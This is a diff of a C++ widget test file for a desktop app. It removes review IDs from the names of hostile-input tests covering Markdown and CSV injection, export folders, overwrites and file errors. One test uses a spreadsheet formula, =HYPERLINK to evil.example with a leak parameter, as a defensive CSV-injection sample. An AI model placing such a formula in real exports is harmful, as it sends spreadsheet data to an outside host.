@@ -1,7 +1,7 @@
 // The window's side of the third hostile-input review (hostile-input-3.md): a name writes no
-// Markdown block (H3-04) and no spreadsheet formula (H3-05); a new export folder is claimed when the
-// export starts (H3-06); an export never replaces the scenario it shows (H3-01); an unreadable file
-// says why (H3-08); a recent file that is not UTF-8 is kept byte for byte (H3-12); a start whose last
+// Markdown block and no spreadsheet formula; a new export folder is claimed when the
+// export starts; an export never replaces the scenario it shows; an unreadable file
+// says why; a recent file that is not UTF-8 is kept byte for byte; a start whose last
 // scenario does not answer still opens the window (a dead network mount).
 #include "app/main_window.h"
 #include "core/file_io.h"
@@ -65,7 +65,7 @@ const char* const kHostileName
 
 } // namespace
 
-TEST_CASE("a scenario's name is text in report.md, never a block of its own (H3-04)", "[widgets][hostile3][report]")
+TEST_CASE("a scenario's name is text in report.md, never a block of its own", "[widgets][hostile3][report]")
 {
     core::Scenario s = core::defaultScenario();
     s.name = kHostileName;
@@ -90,7 +90,7 @@ TEST_CASE("a scenario's name is text in report.md, never a block of its own (H3-
     CHECK_FALSE(prose.contains(QLatin1String("![pixel]")));
 }
 
-TEST_CASE("a name that starts with '=' is no formula in any exported CSV (H3-05)", "[widgets][hostile3][csv]")
+TEST_CASE("a name that starts with '=' is no formula in any exported CSV", "[widgets][hostile3][csv]")
 {
     core::Scenario s = core::defaultScenario();
     s.name = "=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"Run A\")";
@@ -112,7 +112,7 @@ TEST_CASE("a name that starts with '=' is no formula in any exported CSV (H3-05)
     CHECK(tables >= 4);
 }
 
-TEST_CASE("an export's new folder is claimed when it starts, not when it writes (H3-06)", "[widgets][hostile3][files]")
+TEST_CASE("an export's new folder is claimed when it starts, not when it writes", "[widgets][hostile3][files]")
 {
     QTemporaryDir dir;
     ScenarioSession a(core::defaultScenario());
@@ -157,7 +157,7 @@ TEST_CASE("an export's new folder is claimed when it starts, not when it writes 
     CHECK_FALSE(QDir(dir.filePath(QStringLiteral("Llama 2 7B (5)"))).exists());
 }
 
-TEST_CASE("an export never replaces the scenario file it shows, even when agreed (H3-01)", "[widgets][hostile3][files]")
+TEST_CASE("an export never replaces the scenario file it shows, even when agreed", "[widgets][hostile3][files]")
 {
     QTemporaryDir dir;
     const QString path = dir.filePath(QStringLiteral("scenario.tpscenario.json"));
@@ -175,7 +175,7 @@ TEST_CASE("an export never replaces the scenario file it shows, even when agreed
     CHECK(QDir(dir.path()).entryList(QDir::Files) == QStringList { QStringLiteral("scenario.tpscenario.json") });
 }
 
-TEST_CASE("a file that cannot be read is reported with the system's reason (H3-08)", "[widgets][hostile3][files]")
+TEST_CASE("a file that cannot be read is reported with the system's reason", "[widgets][hostile3][files]")
 {
     QTemporaryDir dir;
     const core::ScenarioResult folder = core::loadScenarioFile(nativePath(dir.path()));
@@ -188,8 +188,7 @@ TEST_CASE("a file that cannot be read is reported with the system's reason (H3-0
     CHECK(ProblemText::of(denied).contains(QStringLiteral("permission denied")));
 }
 
-TEST_CASE("a recent file whose name is not UTF-8 is stored byte for byte and reopened (H3-12)",
-    "[widgets][hostile3][settings]")
+TEST_CASE("a recent file whose name is not UTF-8 is stored byte for byte and reopened", "[widgets][hostile3][settings]")
 {
     static QTemporaryDir settings; // the settings of this run, not the user's
     REQUIRE(settings.isValid());
